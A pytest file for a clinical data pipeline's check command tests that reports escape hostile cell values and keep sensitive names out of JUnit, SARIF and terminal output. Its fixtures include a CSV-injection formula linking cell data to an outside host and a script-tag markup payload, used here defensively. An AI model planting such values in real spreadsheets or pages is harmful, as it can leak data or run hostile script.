"""What the check tells: the page and the list hold values, JUnit, SARIF and the terminal none; a formula is
no formula any more.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from lxml import etree, html
from typer.testing import CliRunner, Result

from pipeline.cli import app
from pipeline.study import Study
from tests.conftest import ROOT
from tests.support.door import changed, rows, small

SECRET = "Wang Xiulan"
FORMULA = '=HYPERLINK("http://example.org/?q="&A1)'
PULSE = "8931"
MARKUP = "<script>alert(1)</script>"


def call(drop: Path, out: Path, *more: str) -> Result:
    return CliRunner().invoke(app, ["check-drop", str(drop), "--out", str(out), "--study", str(ROOT), *more])


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> tuple[Result, Path]:
    """A check of a drop in whose faulty cells stand a name, a formula and markup."""
    home = tmp_path_factory.mktemp("told")
    drop = small(home / "drop")
    changed(
        drop,
        "ae.csv",
        {"SUBJECT": "FD-001", "RECORD": "1"},
        {"GRADE": SECRET, "START_DATE": FORMULA, "ONGOING": MARKUP},
    )
    changed(drop, "cm.csv", {"SUBJECT": "FD-001", "RECORD": "1"}, {"SUBJECT": SECRET})
    changed(drop, "vs.csv", {"SUBJECT": "FD-001", "FOLDER": "CYCLE 3 DAY 1"}, {"PULSE": PULSE})
    return call(drop, home / "out", "--json", "--format", "html,csv,junit,sarif"), home / "out"


def test_values_stand_in_the_page_and_in_the_list_and_nowhere_else(told: tuple[Result, Path]) -> None:
    result, out = told
    assert result.exit_code == 1
    assert SECRET in (out / "check.html").read_text(encoding="utf-8")
    assert SECRET in (out / "queries.csv").read_text(encoding="utf-8")
    for text in (
        result.output,
        result.stderr,
        *((out / n).read_text(encoding="utf-8") for n in ("junit.xml", "check.sarif")),
    ):
        for value in (SECRET, "HYPERLINK", "alert", PULSE):
            assert value not in text


def test_a_formula_is_escaped_in_the_list(told: tuple[Result, Path]) -> None:
    (query,) = [q for q in rows(told[1] / "queries.csv") if q["field"] == "START_DATE"]
    assert query["value"] == f"'{FORMULA}"


def test_the_page_loads_nothing_and_runs_nothing(told: tuple[Result, Path]) -> None:
    text = (told[1] / "check.html").read_text(encoding="utf-8")
    page: Any = html.fromstring(text)
    assert page.xpath("//script | //link | //img | //iframe | //@src | //@href | //@onclick") == []
    assert not re.search(r"url\(|@import", "".join(page.xpath("//style/text()")))
    assert MARKUP in page.text_content()


def test_the_page_tells_by_rule_by_form_by_subject_and_each_query(told: tuple[Result, Path]) -> None:
    page: Any = html.fromstring((told[1] / "check.html").read_text(encoding="utf-8"))
    assert page.xpath("//h2/text()") == ["By rule", "By form", "By participant", "Queries"]
    assert len(page.xpath("//body/table[last()]//tr")) == 1 + len(rows(told[1] / "queries.csv"))


def test_the_page_folds_away_the_rules_that_have_no_query(told: tuple[Result, Path]) -> None:
    page: Any = html.fromstring((told[1] / "check.html").read_text(encoding="utf-8"))
    shown = page.xpath("//body/table[1]//td[@class='id']/text()")
    folded = page.xpath("//details//td[@class='id']/text()")
    queried = {query["rule"] for query in rows(told[1] / "queries.csv")}
    assert set(shown) == queried
    assert folded
    assert not set(folded) & queried


def test_junit_fails_for_errors_and_passes_for_warnings(told: tuple[Result, Path]) -> None:
    root = etree.fromstring((told[1] / "junit.xml").read_bytes())
    cases = root.findall(".//testcase")
    failed = {(c.get("classname"), c.get("name")) for c in cases if c.find("failure") is not None}
    warned = {(c.get("classname"), c.get("name")) for c in cases if c.find("system-out") is not None}
    assert failed == {
        ("ae", "RAW-CODE GRADE"),
        ("ae", "RAW-DATE START_DATE"),
        ("ae", "RAW-CODE ONGOING"),
        ("cm", "RAW-SUBJECT SUBJECT"),
    }
    assert warned == {("vs", "RAW-RANGE PULSE")}
    assert (root.get("tests"), root.get("failures")) == (str(len(cases)), "4")
    assert len({(c.get("classname"), c.get("name")) for c in cases}) == len(cases)


def test_sarif_has_a_rule_and_a_lasting_fingerprint_for_each_result(told: tuple[Result, Path]) -> None:
    sarif: dict[str, Any] = json.loads((told[1] / "check.sarif").read_text(encoding="utf-8"))
    assert sarif["version"] == "2.1.0"
    (run,) = sarif["runs"]
    rules = [r["id"] for r in run["tool"]["driver"]["rules"]]
    assert len(set(rules)) == len(rules)
    for result in run["results"]:
        assert rules[result["ruleIndex"]] == result["ruleId"]
        assert result["level"] in ("error", "warning")
        assert result["message"]["text"]
        assert "baselineState" not in result, "there was no earlier check"
    assert sorted(r["partialFingerprints"]["query/v1"] for r in run["results"]) == sorted(
        q["query"] for q in rows(told[1] / "queries.csv")
    )


def test_json_tells_counts_and_where_the_files_are(told: tuple[Result, Path]) -> None:
    content = json.loads(told[0].stdout)
    assert (content["state"], content["queries"]["errors"], content["queries"]["warnings"]) == (
        "stopped",
        4,
        1,
    )
    assert content["folder"] == str(told[1])


def test_an_unknown_format_is_wrong_usage(tmp_path: Path) -> None:
    result = call(small(tmp_path / "drop"), tmp_path / "out", "--format", "html,pdf")
    assert (result.exit_code, (tmp_path / "out").exists()) == (2, False)
    assert "--format pdf: expected any of html,csv,xlsx,sites,junit,sarif" in result.stderr


def test_a_wrong_name_in_the_doors_own_spec_is_told_with_its_place(study: Study, tmp_path: Path) -> None:
    from pipeline.errors import SpecError
    from pipeline.study import door

    text = (ROOT / door.DOOR).read_text(encoding="utf-8")
    (tmp_path / "specs").mkdir()
    (tmp_path / door.DOOR).write_text(
        text.replace("{form: death, field: DEATH_DATE}]", "{form: deaths, field: DEATH_DATE}]", 1),
        encoding="utf-8",
    )
    with pytest.raises(
        SpecError, match=r"specs/door\.yaml:\d+:\d+: deaths is not a form of specs/raw; did you mean death\?"
    ):
        door.load(tmp_path, study)
    (tmp_path / door.DOOR).write_text(text.replace("{REASON: Death}", "{REASON: Deth}", 1), encoding="utf-8")
    with pytest.raises(SpecError, match=r"Deth is not a label of eos\.REASON; did you mean Death\?"):
        door.load(tmp_path, study)
